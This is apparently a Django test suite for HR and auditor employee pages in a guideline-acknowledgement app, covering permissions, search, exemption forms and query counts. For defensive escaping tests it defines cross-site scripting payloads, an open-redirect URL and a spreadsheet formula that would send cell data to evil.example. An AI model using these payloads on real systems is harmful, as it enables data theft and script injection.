"""HR and auditors, per employee: the employee page (with the proof of reading of each acknowledgement and
the employee's questions, objections and exception requests), the employee search, the exemption and
extension forms with search-then-pick, revoking with a confirmation, and every list leading to the employee."""

import re
from datetime import timedelta

import pytest
import time_machine
from django.core.exceptions import PermissionDenied
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from guidelines import comprehension, employees, publishing, questions, services, status
from guidelines.models import DueDateExtension, Employee, Exemption, NotificationLog
from guidelines.views import people

from ..factories import make_draft, make_employee, make_guideline, publish
from .test_error_pattern import assert_error_pattern

HOSTILE_FIRST = '<img src=x onerror="alert(1)">'
HOSTILE_LAST = '=HYPERLINK("http://evil.example/?"&A1)'
HOSTILE_NUMBER = "<b>E666</b>"
# What an employee may type as a question or a reason.
HOSTILE_TEXT = '<script>alert(1)</script> "><img src=x onerror=alert(1)>'


@pytest.fixture
def acknowledged(alice, version_1, web_meta):
    ack, _ = services.acknowledge(employee=alice, version=version_1, language="en", meta=web_meta)
    return ack


@pytest.fixture
def mallory(db, bob):
    """An employee whose name and number (from the HR system) are hostile."""
    person = make_employee("mallory@example.com", HOSTILE_NUMBER, manager=bob)
    person.user.first_name, person.user.last_name = HOSTILE_FIRST, HOSTILE_LAST
    person.user.save()
    return person


def page_of(client, employee):
    return client.get(reverse("guidelines:hr_employee", args=[employee.pk]))


# The employee page -----------------------------------------------------------------------------------


def test_hr_sees_where_the_employee_stands_from_the_status_engine(client_as, hilde, alice, acknowledged, version_1):
    response = page_of(client_as(hilde), alice)

    page = response.content.decode()
    assert response.status_code == 200
    assert "<h1>Alice Example</h1>" in page
    expected = status.standing(alice, version_1).status
    assert expected == status.Status.ACKNOWLEDGED
    assert f'<span class="badge badge-ok">{expected.label}</span>' in page
    receipt = reverse("guidelines:hr_employee_receipt", args=[alice.pk, acknowledged.pk])
    assert f'href="{receipt}"' in page
    assert f'href="{reverse("guidelines:report_certificate", args=[acknowledged.pk])}"' in page


def test_hr_reads_the_receipt_of_an_employee_and_only_of_that_employee(client_as, hilde, alice, bob, acknowledged):
    client = client_as(hilde)
    response = client.get(reverse("guidelines:hr_employee_receipt", args=[alice.pk, acknowledged.pk]))
    page = response.content.decode()
    assert response.status_code == 200
    assert "Receipt of the acknowledgement of Alice Example" in page and acknowledged.seal in page
    # Alice's acknowledgement under Bob's address: not found.
    assert client.get(reverse("guidelines:hr_employee_receipt", args=[bob.pk, acknowledged.pk])).status_code == 404


def test_pending_exempt_and_extended_employees_show_with_hrs_actions(client_as, hilde, alice, bob, guideline,
                                                                       version_1):
    later = timezone.localdate() + timedelta(days=90)
    services.extend_due_date(employee=alice, version=version_1, by=hilde, due_date=later, reason="Parental leave")
    exemption = services.grant_exemption(employee=bob, guideline=guideline, by=hilde, reason="Long-term leave")

    alice_page = page_of(client_as(hilde), alice).content.decode()
    assert '<span class="badge badge-todo">pending</span>' in alice_page
    assert f'<time datetime="{later:%Y-%m-%d}">' in alice_page and "Parental leave" in alice_page
    assert f'{reverse("guidelines:hr_exemption_grant", args=[guideline.slug])}?employee={alice.pk}' in alice_page

    bob_page = page_of(client_as(hilde), bob).content.decode()
    assert '<span class="badge badge-muted">exempt</span>' in bob_page and "Long-term leave" in bob_page
    assert f'{reverse("guidelines:hr_exemption_revoke", args=[exemption.pk])}?return_to=employee' in bob_page


def test_an_auditor_reads_the_page_without_hrs_actions(client_as, arjen, bob, guideline, version_1, hilde):
    services.grant_exemption(employee=bob, guideline=guideline, by=hilde, reason="Long-term leave")

    response = page_of(client_as(arjen), bob)

    page = response.content.decode()
    assert response.status_code == 200 and "Long-term leave" in page
    assert "/revoke/" not in page and "/exemptions/" not in page and "/extensions/" not in page


@pytest.mark.parametrize("who", ["alice", "bob"])  # an employee, and a manager (Alice reports to Bob)
def test_employees_and_managers_are_refused_every_employee_page(client_as, request, who, alice, acknowledged):
    client = client_as(request.getfixturevalue(who))
    for url in (reverse("guidelines:hr_employees") + "?q=alice", reverse("guidelines:hr_employee", args=[alice.pk]),
                reverse("guidelines:hr_employee_receipt", args=[alice.pk, acknowledged.pk])):
        assert client.get(url).status_code == 403, url


def test_the_service_layer_refuses_whoever_may_not_read_or_act(arjen, alice, bob, guideline, version_1, hilde):
    for reader in (alice.user, bob.user):
        with pytest.raises(PermissionDenied):
            employees.overview(alice, by=reader)
        with pytest.raises(PermissionDenied):
            employees.search("alice", by=reader)
        with pytest.raises(PermissionDenied):
            employees.employee_or_none(alice.pk, by=reader)
    exemption = services.grant_exemption(employee=bob, guideline=guideline, by=hilde, reason="Leave")
    # An auditor reads, but the inline actions are refused in the service layer too.
    with pytest.raises(PermissionDenied):
        services.grant_exemption(employee=alice, guideline=guideline, by=arjen, reason="Leave")
    with pytest.raises(PermissionDenied):
        services.revoke_exemption(exemption=exemption, by=arjen)
    with pytest.raises(PermissionDenied):
        services.extend_due_date(employee=alice, version=version_1, by=arjen,
                                 due_date=timezone.localdate() + timedelta(days=90), reason="Leave")
    assert Exemption.objects.filter(revoked_at__isnull=True).count() == 1
    assert not DueDateExtension.objects.exists()


def test_an_auditor_trying_the_actions_is_refused(client_as, arjen, alice, bob, guideline, version_1, hilde):
    exemption = services.grant_exemption(employee=bob, guideline=guideline, by=hilde, reason="Leave")
    client = client_as(arjen)
    later = (timezone.localdate() + timedelta(days=90)).isoformat()
    attempts = [
        (reverse("guidelines:hr_exemption_grant", args=[guideline.slug]),
         {"employee_number": "E0001", "reason": "x", "return_to": "employee"}),
        (reverse("guidelines:hr_extension_grant", args=[guideline.slug]),
         {"employee_number": "E0001", "reason": "x", "due_date": later}),
        (reverse("guidelines:hr_exemption_revoke", args=[exemption.pk]), {"return_to": "employee"}),
    ]
    for url, data in attempts:
        assert client.get(url).status_code == 403, url
        assert client.post(url, data).status_code == 403, url
    exemption.refresh_from_db()
    assert exemption.revoked_at is None and Exemption.objects.count() == 1
    assert not DueDateExtension.objects.exists()


def test_the_employee_page_costs_the_same_queries_however_much_there_is(client_as, hilde, alice, bob, guideline,
                                                                         version_1, web_meta):
    client = client_as(hilde)
    page_of(client, alice)  # the session, permissions and prepared statements warm up
    with CaptureQueriesContext(connection) as few:
        assert page_of(client, alice).status_code == 200

    for n in range(4):
        other = make_guideline(hilde, slug=f"rule-{n}")
        version = publish(other, author=hilde, approver=bob.user)
        services.acknowledge(employee=alice, version=version, language="en", meta=web_meta)
        services.grant_exemption(employee=alice, guideline=other, by=hilde, reason=f"Leave {n}")
        services.extend_due_date(employee=alice, version=version, by=hilde, reason="Leave",
                                 due_date=timezone.localdate() + timedelta(days=60 + n))
    page_of(client, alice)
    with CaptureQueriesContext(connection) as many:
        response = page_of(client, alice)
    assert response.content.decode().count("Certificate (PDF)") == 4
    assert len(many) == len(few), [q["sql"] for q in many.captured_queries]


def test_the_employee_page_has_a_bounded_number_of_queries(client_as, hilde, alice, acknowledged,
                                                            django_assert_max_num_queries):
    client = client_as(hilde)
    page_of(client, alice)
    with django_assert_max_num_queries(20):
        page_of(client, alice)


# Questions, objections and exception requests -------------------------------------------------------------


def _section(page, heading_id):
    return re.search(rf'<section aria-labelledby="{heading_id}">(.*?)</section>', page, re.S).group(1)


def _links(section, name):
    """The pks of the `name` links (guidelines:question, guidelines:objection) in a section, in order."""
    prefix = reverse(name, args=[0]).removesuffix("0/")
    return [int(pk) for pk in re.findall(rf'href="{re.escape(prefix)}(\d+)/"', section)]


def test_hr_sees_the_employees_questions_and_objections_newest_first(client_as, hilde, alice, version_1, web_meta):
    answered = questions.ask(employee=alice, version=version_1, language="en", text="May I post office photos?")
    questions.answer(question=answered, by=hilde, text="Yes, without people in them.")
    waiting = questions.ask(employee=alice, version=version_1, language="nl", text="And of the town hall?")
    objection = questions.record_objection(employee=alice, version=version_1, language="en", kind="objection",
                                           reason="Too strict for the sales team.", meta=web_meta)
    request = questions.record_objection(employee=alice, version=version_1, language="en", kind="exception",
                                         reason="I am on leave until May.", meta=web_meta)
    questions.resolve(objection=request, by=hilde, outcome="exempted", note="Granted until you are back.")

    page = page_of(client_as(hilde), alice).content.decode()

    asked = _section(page, "questions-heading")
    assert _links(asked, "guidelines:question") == [waiting.pk, answered.pk]
    rows = asked.split("<tr>")[2:]
    assert "And of the town hall?" in rows[0] and "waiting for an answer" in rows[0] and "version 1.0" in rows[0]
    assert "May I post office photos?" in rows[1] and '<span class="badge badge-ok">answered</span>' in rows[1]
    assert "Only the newest" not in asked and "only the questions about guidelines you own" not in asked
    objected = _section(page, "objections-heading")
    assert _links(objected, "guidelines:objection") == [request.pk, objection.pk]
    rows = objected.split("<tr>")[2:]
    assert "Exception request</a>" in rows[0] and "I am on leave until May." in rows[0]
    assert "exemption granted" in rows[0]
    assert "Objection</a>" in rows[1] and "Too strict for the sales team." in rows[1] and "waiting for HR" in rows[1]


def test_an_employee_without_questions_or_objections_has_empty_sections(client_as, hilde, bob, version_1):
    page = page_of(client_as(hilde), bob).content.decode()
    assert '<p class="empty">No questions.</p>' in _section(page, "questions-heading")
    assert '<p class="empty">No objections or exception requests.</p>' in _section(page, "objections-heading")


def test_the_lists_show_the_newest_and_say_when_there_are_more(client_as, hilde, alice, version_1, web_meta,
                                                               monkeypatch, settings):
    monkeypatch.setattr(questions, "EMPLOYEE_PAGE_ROWS", 2)
    settings.QUESTION_RATE = (50, 3600)
    asked = [questions.ask(employee=alice, version=version_1, language="en", text=f"Question {n}") for n in range(2)]
    objected = [questions.record_objection(employee=alice, version=version_1, language="en", kind="objection",
                                           reason=f"Reason {n}", meta=web_meta) for n in range(2)]
    client = client_as(hilde)
    page = page_of(client, alice).content.decode()
    assert "Only the newest" not in page  # exactly as many as are listed

    asked.append(questions.ask(employee=alice, version=version_1, language="en", text="Question 2"))
    objected.append(questions.record_objection(employee=alice, version=version_1, language="en", kind="exception",
                                               reason="Reason 2", meta=web_meta))
    page = page_of(client, alice).content.decode()
    questions_section, objections_section = _section(page, "questions-heading"), _section(page, "objections-heading")
    assert _links(questions_section, "guidelines:question") == [asked[2].pk, asked[1].pk]
    assert "Only the newest 2 questions are listed." in questions_section
    assert _links(objections_section, "guidelines:objection") == [objected[2].pk, objected[1].pk]
    assert "Only the newest 2 objections and exception requests are listed." in objections_section


def test_the_employee_page_costs_the_same_queries_with_many_questions_and_objections(
        client_as, hilde, alice, bob, version_1, web_meta, settings, django_assert_max_num_queries):
    settings.QUESTION_RATE = (100, 3600)
    questions.ask(employee=alice, version=version_1, language="en", text="One question")
    questions.record_objection(employee=alice, version=version_1, language="en", kind="objection", reason="One",
                               meta=web_meta)
    client = client_as(hilde)
    page_of(client, alice)
    with CaptureQueriesContext(connection) as few:
        page_of(client, alice)
    few = len(few)  # now: the next request empties the log the context reads from

    for n in range(4):
        other = make_guideline(hilde, slug=f"rule-{n}")
        version = publish(other, author=hilde, approver=bob.user)
        thread = questions.ask(employee=alice, version=version, language="nl", text=f"Question {n}")
        questions.answer(question=thread, by=hilde, text="An answer.")
        request = questions.record_objection(employee=alice, version=version, language="en", kind="exception",
                                             reason=f"Reason {n}", meta=web_meta)
        questions.resolve(objection=request, by=hilde, outcome="declined" if n % 2 else "exempted", note="Noted.")
    page_of(client, alice)
    with django_assert_max_num_queries(few):
        response = page_of(client, alice)
    page = response.content.decode()
    assert len(_links(_section(page, "questions-heading"), "guidelines:question")) == 5
    assert len(_links(_section(page, "objections-heading"), "guidelines:objection")) == 5


def test_an_auditor_reads_the_objections_and_only_the_questions_about_guidelines_they_own(
        client_as, arjen, hilde, alice, bob, version_1, web_meta):
    to_hilde = questions.ask(employee=alice, version=version_1, language="en", text="For the owner, Hilde.")
    audited = make_guideline(arjen, slug="audit-rules")
    audited_v1 = publish(audited, author=hilde, approver=bob.user)
    to_arjen = questions.ask(employee=alice, version=audited_v1, language="en", text="For the owner, Arjen.")
    objection = questions.record_objection(employee=alice, version=version_1, language="en", kind="objection",
                                           reason="Too strict.", meta=web_meta)

    page = page_of(client_as(arjen), alice).content.decode()

    asked = _section(page, "questions-heading")
    assert _links(asked, "guidelines:question") == [to_arjen.pk]
    assert "only the questions about guidelines you own are listed" in asked and "For the owner, Hilde." not in page
    assert _links(_section(page, "objections-heading"), "guidelines:objection") == [objection.pk]
    # Every link leads to a page the auditor may open.
    client = client_as(arjen)
    assert client.get(reverse("guidelines:question", args=[to_arjen.pk])).status_code == 200
    assert client.get(reverse("guidelines:objection", args=[objection.pk])).status_code == 200
    assert client.get(reverse("guidelines:question", args=[to_hilde.pk])).status_code == 404


def test_the_service_gives_the_threads_to_hr_and_auditors_only(alice, bob, hilde, arjen, version_1, nina):
    questions.ask(employee=alice, version=version_1, language="en", text="A question.")
    for reader in (alice.user, bob.user, nina):
        with pytest.raises(PermissionDenied):
            questions.threads_of(alice, by=reader)
    assert len(questions.threads_of(alice, by=hilde).questions) == 1
    assert questions.threads_of(alice, by=arjen).questions == []


def test_the_proof_of_reading_of_each_acknowledgement_is_listed(client_as, hilde, alice, bob, guideline,
                                                                 version_1, web_meta):
    services.acknowledge(employee=alice, version=version_1, language="en", meta=web_meta)  # no reading reported
    checked = make_guideline(hilde, slug="checked")
    draft = make_draft(checked, author=hilde)
    comprehension.set_questions(version=draft, by=hilde, questions=[
        {"text": {"nl": f"Vraag {n}?", "en": f"Question {n}?"}, "correct": 1,
         "choices": [{"nl": "Nee", "en": "No"}, {"nl": "Ja", "en": "Yes"}],
         "hint": {"nl": "Zie de tekst.", "en": "See the text."}} for n in (1, 2)])
    publishing.approve_version(version=draft, by=bob.user)
    checked_v1 = publishing.publish_version(version=draft, by=hilde, material=True)
    opened = timezone.now()
    services.record_reading(employee=alice, version=checked_v1)
    with time_machine.travel(opened + timedelta(seconds=61), tick=False):
        services.record_progress(employee=alice, version=checked_v1, seconds=60, percent=50)
    with time_machine.travel(opened + timedelta(seconds=126), tick=False):
        services.record_progress(employee=alice, version=checked_v1, seconds=65, percent=100)
    first, second = comprehension.questions_of(checked_v1)
    comprehension.check_answers(employee=alice, version=checked_v1, answers={first.pk: 0, second.pk: 1})
    comprehension.check_answers(employee=alice, version=checked_v1, answers={first.pk: 1, second.pk: 1})
    services.acknowledge(employee=alice, version=checked_v1, language="en", meta=web_meta, reading_tracked=True)

    page = page_of(client_as(hilde), alice).content.decode()

    rows = _section(page, "acks-heading").split("<tr>")[2:]
    assert len(rows) == 2
    [read] = [row for row in rows if "tries" in row]
    assert '<span class="field-name">Read to the end:</span> <time datetime=' in read
    assert '<span class="field-name">Time on the text:</span> 2 min 5 s' in read
    assert "2 questions answered rightly (tries per question: 2, 1)" in read
    [unread] = [row for row in rows if row is not read]
    assert '<span class="field-name">Read to the end:</span> not recorded' in unread
    assert "Time on the text" not in unread and "tries" not in unread


def test_hostile_questions_and_reasons_are_shown_as_text(client_as, hilde, mallory, version_1, web_meta):
    questions.ask(employee=mallory, version=version_1, language="en", text=HOSTILE_TEXT)
    questions.record_objection(employee=mallory, version=version_1, language="en", kind="exception",
                               reason=HOSTILE_TEXT, meta=web_meta)

    page = page_of(client_as(hilde), mallory).content.decode()

    assert HOSTILE_TEXT not in page and "<script>alert(1)" not in page and "<img src=x onerror=alert(1)>" not in page
    escaped = "&lt;script&gt;alert(1)&lt;/script&gt; &quot;&gt;&lt;img src=x onerror=alert(1)&gt;"
    assert escaped in _section(page, "questions-heading") and escaped in _section(page, "objections-heading")
    _assert_escaped(page)


# Hostile names and numbers ------------------------------------------------------------------------------


def _assert_escaped(page):
    assert HOSTILE_FIRST not in page and "<b>E666</b>" not in page
    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in page


def test_a_hostile_name_and_number_are_escaped_on_every_page(client_as, hilde, mallory, guideline, version_1):
    exemption = services.grant_exemption(employee=mallory, guideline=guideline, by=hilde, reason="<i>why</i>")
    client = client_as(hilde)
    for url in (reverse("guidelines:hr_employee", args=[mallory.pk]),
                reverse("guidelines:hr_employees") + "?q=mallory",
                reverse("guidelines:hr_exemption_revoke", args=[exemption.pk]),
                reverse("guidelines:hr_guideline", args=[guideline.slug]),
                reverse("guidelines:dashboard_guideline", args=[guideline.slug]),
                reverse("guidelines:hr_exemption_grant", args=[guideline.slug]) + "?q=mallory",
                reverse("guidelines:hr_exemption_grant", args=[guideline.slug]) + f"?employee={mallory.pk}"):
        response = client.get(url)
        assert response.status_code == 200, url
        _assert_escaped(response.content.decode())
    # The spreadsheet formula is shown as text on the pages (it matters in CSV, which defuses it).
    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1)" in client.get(
        reverse("guidelines:hr_employee", args=[mallory.pk])).content.decode()


def test_a_hostile_number_is_found_and_picked_by_its_own_text(client_as, hilde, mallory, guideline, version_1):
    client = client_as(hilde)
    url = reverse("guidelines:hr_exemption_grant", args=[guideline.slug])
    response = client.post(url, {"employee_number": HOSTILE_NUMBER, "reason": "Leave", "return_to": "employee"})
    assert response.status_code == 302 and response.url == reverse("guidelines:hr_employee", args=[mallory.pk])
    assert Exemption.objects.get().employee == mallory


# The search ---------------------------------------------------------------------------------------------


def _names(page):
    return re.findall(r'<td><a href="/hr/employees/\d+/">([^<]+)</a>', page)


def test_the_search_finds_by_name_number_or_address_ignoring_case(client_as, arjen, alice, bob, otto):
    client = client_as(arjen)
    search = reverse("guidelines:hr_employees")
    assert _names(client.get(search, {"q": "ALICE EX"}).content.decode()) == ["Alice Example"]
    assert _names(client.get(search, {"q": "e0099"}).content.decode()) == ["Otto Example"]
    assert _names(client.get(search, {"q": "BOB@example"}).content.decode()) == ["Bob Example"]
    assert sorted(_names(client.get(search).content.decode())) == ["Alice Example", "Bob Example", "Otto Example"]
    page = client.get(search, {"q": "nobody-like-this"}).content.decode()
    assert _names(page) == [] and "Nobody matches this search." in page
    # Too long a query is searched shortened rather than refused.
    assert client.get(search, {"q": "a" * 500}).status_code == 200


def test_the_search_is_paginated_with_the_same_queries_per_page(client_as, hilde, monkeypatch, db):
    monkeypatch.setattr(people, "PAGE_SIZE", 3)
    for n in range(4):
        make_employee(f"fien{n}@example.com", f"F{n:03d}")
    client = client_as(hilde)
    search = reverse("guidelines:hr_employees")
    client.get(search, {"q": "fien"})
    with CaptureQueriesContext(connection) as first:
        page = client.get(search, {"q": "fien"}).content.decode()
    assert len(_names(page)) == 3 and "Page 1 of 2" in page
    for n in range(4, 40):
        make_employee(f"fien{n}@example.com", f"F{n:03d}")
    with CaptureQueriesContext(connection) as later:
        page = client.get(search, {"q": "fien", "page": "2"}).content.decode()
    assert len(_names(page)) == 3 and "Page 2 of 14" in page
    assert len(later) == len(first)


def test_the_search_has_a_bounded_number_of_queries(client_as, hilde, alice, bob, otto,
                                                     django_assert_max_num_queries):
    client = client_as(hilde)
    client.get(reverse("guidelines:hr_employees"))
    with django_assert_max_num_queries(12):
        client.get(reverse("guidelines:hr_employees"), {"q": "example"})


# The exemption and extension forms: search, pick, errors on the form -------------------------------------


def test_hr_finds_the_employee_by_name_and_picks_them(client_as, hilde, alice, bob, guideline, version_1):
    client = client_as(hilde)
    url = reverse("guidelines:hr_exemption_grant", args=[guideline.slug])

    found = client.get(url, {"q": "ali", "return_to": "employee"}).content.decode()
    assert "Choose Alice Example" in found and "Choose Bob" not in found
    choose = re.search(r'<a href="([^"]+)">Choose Alice Example', found).group(1).replace("&amp;", "&")
    assert f"employee={alice.pk}" in choose and "return_to=employee" in choose

    picked = client.get(url + choose).content.decode()
    assert 'name="employee_number" value="E0001"' in picked
    assert "Alice Example, employee number E0001" in picked
    assert 'name="return_to" value="employee"' in picked

    saved = client.post(url, {"employee_number": "E0001", "reason": "Long-term leave", "return_to": "employee"})
    assert saved.status_code == 302 and saved.url == reverse("guidelines:hr_employee", args=[alice.pk])
    assert Exemption.objects.get().employee == alice


def test_an_unknown_number_is_answered_on_the_form_itself_keeping_the_input(client_as, hilde, alice, guideline,
                                                                            version_1):
    response = client_as(hilde).post(reverse("guidelines:hr_exemption_grant", args=[guideline.slug]),
                                     {"employee_number": "E0001X", "reason": "Long-term leave"})

    assert_error_pattern(response, ["employee_number"])
    page = response.content.decode()
    assert "No employee has this number." in page
    assert 'name="employee_number" value="E0001X"' in page and "Long-term leave</textarea>" in page
    assert 'id="id_q"' in page  # the search to find the employee by name is right there
    assert not Exemption.objects.exists()


def test_a_name_typed_as_the_number_is_looked_up_on_the_form(client_as, hilde, alice, guideline, version_1):
    response = client_as(hilde).post(reverse("guidelines:hr_exemption_grant", args=[guideline.slug]),
                                     {"employee_number": "alice", "reason": "Long-term leave", "return_to": "employee"})

    assert_error_pattern(response, ["employee_number"])
    page = response.content.decode()
    assert "Choose Alice Example" in page and f"?employee={alice.pk}&amp;return_to=employee" in page
    assert 'name="q" id="id_q" value="alice"' in page


def test_the_extension_form_keeps_its_input_on_an_error_too(client_as, hilde, alice, guideline, version_1):
    response = client_as(hilde).post(reverse("guidelines:hr_extension_grant", args=[guideline.slug]),
                                     {"employee_number": "NOPE", "reason": "Parental leave", "due_date": "2030-01-01"})

    assert_error_pattern(response, ["employee_number"])
    assert 'value="NOPE"' in response.content.decode()
    assert not DueDateExtension.objects.exists()


def test_an_extension_from_the_employee_page_returns_there(client_as, hilde, alice, guideline, version_1):
    later = timezone.localdate() + timedelta(days=90)
    response = client_as(hilde).post(reverse("guidelines:hr_extension_grant", args=[guideline.slug]), {
        "employee_number": "E0001", "reason": "Parental leave", "due_date": later.isoformat(),
        "return_to": "employee"})
    assert response.status_code == 302 and response.url == reverse("guidelines:hr_employee", args=[alice.pk])
    assert status.due_date(alice, version_1) == later


def test_return_to_is_a_choice_not_an_address(client_as, hilde, alice, guideline, version_1):
    response = client_as(hilde).post(reverse("guidelines:hr_exemption_grant", args=[guideline.slug]), {
        "employee_number": "E0001", "reason": "Leave", "return_to": "https://evil.example/"})
    assert response.status_code == 400
    assert not Exemption.objects.exists()


# Revoking asks first ----------------------------------------------------------------------------------


def test_revoking_asks_first_and_only_the_confirmation_revokes(client_as, hilde, bob, guideline, version_1):
    exemption = services.grant_exemption(employee=bob, guideline=guideline, by=hilde, reason="Long-term leave")
    client = client_as(hilde)
    url = reverse("guidelines:hr_exemption_revoke", args=[exemption.pk])

    asked = client.get(url, {"return_to": "employee"})
    page = asked.content.decode()
    assert asked.status_code == 200
    assert "Revoke the exemption of Bob Example for Social media guideline?" in page
    assert 'name="return_to" value="employee"' in page
    exemption.refresh_from_db()
    assert exemption.revoked_at is None

    done = client.post(url, {"return_to": "employee"})
    assert done.status_code == 302 and done.url == reverse("guidelines:hr_employee", args=[bob.pk])
    exemption.refresh_from_db()
    assert exemption.revoked_by == hilde
    assert "already revoked" in client.get(url).content.decode()


def test_the_guideline_page_leads_to_the_confirmation_not_a_revoking_button(client_as, hilde, bob, guideline,
                                                                           version_1):
    exemption = services.grant_exemption(employee=bob, guideline=guideline, by=hilde, reason="Long-term leave")
    page = client_as(hilde).get(reverse("guidelines:hr_guideline", args=[guideline.slug])).content.decode()
    revoke = reverse("guidelines:hr_exemption_revoke", args=[exemption.pk])
    assert f'<a href="{revoke}">Revoke' in page and f'action="{revoke}"' not in page


# Every list leads to the employee ---------------------------------------------------------------------


def test_the_lists_naming_employees_link_to_their_page(client_as, hilde, alice, bob, guideline, version_1):
    services.grant_exemption(employee=bob, guideline=guideline, by=hilde, reason="Leave")
    services.extend_due_date(employee=alice, version=version_1, by=hilde, reason="Leave",
                             due_date=timezone.localdate() + timedelta(days=90))
    client = client_as(hilde)
    alice_link = f'<a href="{reverse("guidelines:hr_employee", args=[alice.pk])}">Alice Example</a>'
    bob_link = f'<a href="{reverse("guidelines:hr_employee", args=[bob.pk])}">Bob Example</a>'

    detail = client.get(reverse("guidelines:hr_guideline", args=[guideline.slug])).content.decode()
    assert alice_link in detail and bob_link in detail  # the extension and the exemption
    dashboard = client.get(reverse("guidelines:dashboard_guideline", args=[guideline.slug])).content.decode()
    assert alice_link in dashboard and bob_link in dashboard


def test_the_email_log_links_each_recipient_to_their_page(client_as, hilde, mallory):
    NotificationLog.objects.create(idempotency_key="digest:test", kind="reminder", recipient=mallory,
                                   email="mallory@example.com", language="en", day=timezone.localdate(),
                                   claimed_by="test")
    page = client_as(hilde).get(reverse("guidelines:hr_notifications")).content.decode()
    assert f'<a href="{reverse("guidelines:hr_employee", args=[mallory.pk])}">&lt;img' in page
    _assert_escaped(page)


def test_the_managers_team_list_has_no_links_to_hr_pages(client_as, alice, bob, version_1):
    page = client_as(bob).get(reverse("guidelines:team")).content.decode()
    assert "Alice Example" in page and "/hr/employees/" not in page


def test_the_menu_leads_hr_and_auditors_to_the_employees(client_as, hilde, arjen, alice):
    for person in (hilde, arjen):
        page = client_as(person).get("/").content.decode()
        assert f'href="{reverse("guidelines:hr_employees")}"' in page
    assert f'href="{reverse("guidelines:hr_employees")}"' not in client_as(alice).get("/").content.decode()


def test_an_unknown_employee_is_404(client_as, hilde, db):
    client = client_as(hilde)
    missing = (Employee.objects.order_by("-pk").values_list("pk", flat=True).first() or 0) + 1
    assert client.get(reverse("guidelines:hr_employee", args=[missing])).status_code == 404
